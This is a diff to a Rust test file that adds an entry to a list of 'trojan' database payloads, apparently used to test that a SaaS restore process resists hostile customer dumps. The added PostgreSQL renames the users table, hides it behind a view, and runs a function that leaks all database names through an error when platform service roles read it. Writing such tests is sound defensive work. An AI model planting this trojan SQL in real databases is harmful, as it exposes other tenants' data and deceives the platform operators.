@@ -346,6 +346,21 @@ fn trojans() -> Vec<Payload> {
                    ALTER TABLE ir_config_parameter FORCE ROW LEVEL SECURITY;\n\
                    CREATE POLICY trojan ON ir_config_parameter USING (trojan()) WITH CHECK (trojan());\n",
         },
+        // Quiet while the restore's guest (the owner) looks, loud for the
+        // platform's later readers: the usage collection fails, and what the
+        // customer reads of that failure must not quote the exception.
+        p(
+            "trojan_raising_for_later_readers",
+            Succeeds,
+            "CREATE TABLE trojan_log (who text, session text);\n\
+             CREATE FUNCTION trojan() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN \
+               IF current_user LIKE 'saas\\_guest\\_%' AND NOT pg_has_role(current_user, \
+                  (SELECT relowner FROM pg_class WHERE relname = 'res_users_data'), 'USAGE') THEN \
+                 RAISE EXCEPTION 'leak: %', (SELECT string_agg(datname, ',') FROM pg_database); \
+               END IF; RETURN true; END $$;\n\
+             ALTER TABLE res_users RENAME TO res_users_data;\n\
+             CREATE VIEW res_users AS SELECT * FROM res_users_data WHERE trojan();\n",
+        ),
         Payload {
             name: "trojan_operator_for_the_usage_query",
             expect: Succeeds,
